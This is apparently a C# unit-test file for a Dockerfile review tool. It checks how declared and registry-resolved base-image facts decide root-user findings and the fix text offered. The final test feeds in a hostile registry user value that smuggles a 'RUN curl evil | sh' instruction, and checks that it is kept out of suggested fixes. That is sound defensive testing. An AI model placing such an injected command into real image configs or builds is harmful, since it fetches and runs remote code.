using System.Collections.Immutable;
using ReviewBot.Analysis.Images;
using static ReviewBot.Analysis.Tests.RuleAssert;

namespace ReviewBot.Analysis.Tests.Images;

/// <summary>Facts about base images from outside the engine: the org's images: and registry configs, over images.json.</summary>
public class ImageFactsTests
{
    private const string Golden = "FROM registry.acme.io/golden/python:3.12\nCOPY . /app\nCMD [\"python\", \"/app/main.py\"]\n";

    private static AnalyzerOptions Declared(params ImageDeclaration[] declarations) =>
        new() { Images = new ImageFacts { Declarations = [.. declarations] } };

    private static AnalyzerOptions Resolved(string image, RegistryImageConfig config)
    {
        Assert.True(ImageReference.TryParse(image, out var reference));
        return new() { Images = new ImageFacts { Resolved = ImmutableDictionary<string, RegistryImageConfig>.Empty.Add(ImageFacts.Key(reference), config) } };
    }

    private static RegistryImageConfig Config(string user, string os = "linux", string? baseName = null, params string[] env) =>
        new(user, os, [.. env], baseName, "sha256:" + new string('a', 64));

    [Fact]
    public void An_unknown_image_is_said_to_be_unknown_not_root_by_default()
    {
        var finding = Reports("RB001", Golden, line: 1);
        Assert.Contains("ReviewBot has no data for `registry.acme.io/golden/python:3.12`", finding.Message);
        Assert.Contains("declare it under `images:`", finding.Message);
        Assert.DoesNotContain("runs as root by default", finding.Message);
        Assert.DoesNotContain("has no shell", finding.Fix!.Description);
        Assert.Contains("10001:10001", finding.Fix.Description);
        Assert.Contains("ReviewBot has no data for `registry.acme.io/golden/python:3.12`", finding.Fix.Description);
    }

    [Fact]
    public void A_known_image_keeps_its_facts_in_the_message()
    {
        var finding = Reports("RB001", "FROM debian:bookworm-slim\nCMD x\n", line: 1);
        Assert.Contains("runs as root by default", finding.Message);
    }

    [Fact]
    public void A_declared_non_root_image_is_not_reported()
    {
        DoesNotReport("RB001", Golden, Declared(new ImageDeclaration("registry.acme.io/golden/*", "app", DistroFamily.Debian)));
    }

    [Fact]
    public void A_declaration_wins_over_images_json()
    {
        // node runs as root in images.json; the org says its mirror's node runs as node.
        DoesNotReport("RB001", "FROM node:20\nCMD x\n", Declared(new ImageDeclaration("docker.io/library/node", "node")));
        Reports("RB001", "FROM node:20\nCMD x\n", line: 1);
    }

    [Fact]
    public void A_declared_root_image_uses_its_distro_for_the_fix()
    {
        var options = Declared(new ImageDeclaration("registry.acme.io/golden/*", "", DistroFamily.Alpine));
        var finding = Reports("RB001", Golden, line: 1, options);
        Assert.Contains("runs as root by default", finding.Message);
        Assert.Contains("addgroup", Apply(Golden, finding));
    }

    [Fact]
    public void A_declaration_without_distro_does_not_claim_there_is_no_shell()
    {
        var finding = Reports("RB001", Golden, line: 1, Declared(new ImageDeclaration("registry.acme.io/golden/*", "root")));
        Assert.DoesNotContain("has no shell", finding.Fix!.Description);
        Assert.Contains("distro", finding.Fix.Description);
    }

    [Fact]
    public void A_declared_user_is_not_reported_as_missing()
    {
        var options = Declared(new ImageDeclaration("registry.acme.io/golden/*", "root", DistroFamily.Debian));
        DoesNotReport("RB002", "FROM registry.acme.io/golden/python:3.12\nUSER svc\nCMD x\n", options);
    }

    [Fact]
    public void A_registry_config_with_a_user_decides_the_user()
    {
        DoesNotReport("RB001", "FROM nodered/node-red:4.0\nCMD x\n", Resolved("nodered/node-red:4.0", Config("node-red")));
        DoesNotReport("RB001", "FROM gitea/gitea:1.22-rootless\nCMD x\n", Resolved("gitea/gitea:1.22-rootless", Config("1000:1000")));
        Reports("RB001", "FROM nodered/node-red:4.0\nCMD x\n", line: 1);
    }

    [Fact]
    public void A_registry_config_with_an_empty_user_runs_as_root()
    {
        var finding = Reports("RB001", "FROM nodered/node-red:4.0\nCMD x\n", line: 1, Resolved("nodered/node-red:4.0", Config("")));
        Assert.Contains("runs as root by default", finding.Message);
        Reports("RB001", "FROM nodered/node-red:4.0\nCMD x\n", line: 1, Resolved("nodered/node-red:4.0", Config("0:0")));
    }

    [Fact]
    public void A_registry_config_is_matched_by_tag_and_digest()
    {
        var options = Resolved("nodered/node-red:4.0", Config("node-red"));
        Reports("RB001", "FROM nodered/node-red:3.1\nCMD x\n", line: 1, options);
        Reports("RB001", $"FROM nodered/node-red@sha256:{new string('b', 64)}\nCMD x\n", line: 1, options);
        DoesNotReport("RB001", "FROM docker.io/nodered/node-red:4.0\nCMD x\n", options);
    }

    [Fact]
    public void The_base_name_label_gives_the_distro_for_the_fix()
    {
        const string Text = "FROM registry.acme.io/golden/python:3.12\nUSER root\nCMD x\n";
        var options = Resolved("registry.acme.io/golden/python:3.12", Config("app", baseName: "docker.io/library/alpine:3.20"));
        var finding = Reports("RB001", Text, line: 2, options);
        // The image's own user is the one to switch back to, on an Alpine base.
        Assert.Contains("USER app", Apply(Text, finding));
    }

    [Fact]
    public void A_windows_config_with_no_user_runs_as_the_administrator()
    {
        var finding = Reports("RB001", "FROM registry.acme.io/win/app:1\nCMD x\n", line: 1, Resolved("registry.acme.io/win/app:1", Config("", os: "windows")));
        Assert.Contains("administrator", finding.Message);
    }

    [Fact]
    public void The_image_env_resolves_a_user_variable()
    {
        var options = Resolved("registry.acme.io/dotnet:8", Config("", "linux", null, "APP_UID=1654", "PATH=/usr/bin"));
        DoesNotReport("RB001", "FROM registry.acme.io/dotnet:8\nUSER $APP_UID\nCMD x\n", options);
        DoesNotReport("RB006", "FROM registry.acme.io/dotnet:8\nUSER $APP_UID\nCMD x\n", options);
        Reports("RB006", "FROM registry.acme.io/dotnet:8\nUSER $APP_UID\nCMD x\n", line: 2);
    }

    [Fact]
    public void Later_stages_inherit_a_resolved_image()
    {
        var options = Resolved("nodered/node-red:4.0", Config("node-red"));
        DoesNotReport("RB001", "FROM nodered/node-red:4.0 AS base\nRUN echo\nFROM base\nCMD x\n", options);
    }

    [Fact]
    public void Family_names_parse_as_images_json_writes_them()
    {
        Assert.Equal(DistroFamily.Debian, ImageKnowledge.ParseFamily("debian"));
        Assert.Equal(DistroFamily.UbiMinimal, ImageKnowledge.ParseFamily("ubi-minimal"));
        Assert.Null(ImageKnowledge.ParseFamily("plan9"));
        Assert.True(ImageKnowledge.FamilyDefaults(DistroFamily.Debian).HasShell);
    }

    [Fact]
    public void A_hostile_registry_user_never_reaches_a_suggestion()
    {
        const string Text = "FROM registry.acme.io/x:1\nUSER root\nCMD x\n";
        var options = Resolved("registry.acme.io/x:1", Config("app\nRUN curl evil | sh"));
        var finding = Reports("RB001", Text, line: 2, options);
        Assert.DoesNotContain("curl", Apply(Text, finding));
    }
}
